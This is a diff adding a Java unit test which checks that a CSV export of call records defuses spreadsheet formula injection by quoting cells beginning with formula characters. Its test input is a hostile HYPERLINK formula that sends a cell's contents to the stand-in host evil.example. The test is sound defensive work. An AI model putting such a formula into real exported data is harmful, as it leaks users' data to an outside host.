@@ -201,6 +201,34 @@ class InteractionLogTest {
     }
 
     @Test
+    void cdrCsvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"invoice\")";
+        List<NewLogEvent> call = new ArrayList<>(answeredCall(formula, "+33 1 23", 0));
+        call.set(call.size() - 2, NewLogEvent.disposition(at(155), formula, "agent-1", "@SUM(1+1)", "notes"));
+        log.appendAll(call).join();
+        log.appendAll(answeredCall("\tcall-tab", "-2+3", 10)).join();
+        log.appendAll(answeredCall("\rcall-cr", "cus_plain", 20)).join();
+        StringWriter out = new StringWriter();
+        assertThat(log.exportCdrCsv(at(0), at(1000), out)).isEqualTo(3);
+
+        List<CSVRecord> records = CSVParser.parse(out.toString(), CSVFormat.RFC4180.builder().setHeader()
+                .setSkipHeaderRecord(true).get()).getRecords();
+        assertThat(records).extracting(r -> r.get("interaction_id"))
+                .containsExactly("'" + formula, "'\tcall-tab", "'\rcall-cr");
+        assertThat(records).extracting(r -> r.get("customer_id")).containsExactly("'+33 1 23", "'-2+3", "cus_plain");
+        assertThat(records.get(0).get("disposition")).isEqualTo("'@SUM(1+1)");
+        assertThat(records.get(1).get("disposition")).isEqualTo("resolved");
+        // Numbers stay numbers, and no cell starts with a formula character any more.
+        assertThat(records.get(0).get("wait_ms")).isEqualTo("30000");
+        for (CSVRecord r : records) {
+            for (String cell : r) {
+                assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
+                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
+            }
+        }
+    }
+
+    @Test
     void aBadEventFailsAloneAndTheOthersInItsBatchAreStored() {
         List<CompletableFuture<LogEvent>> good = new ArrayList<>();
         for (int i = 0; i < 20; i++) {
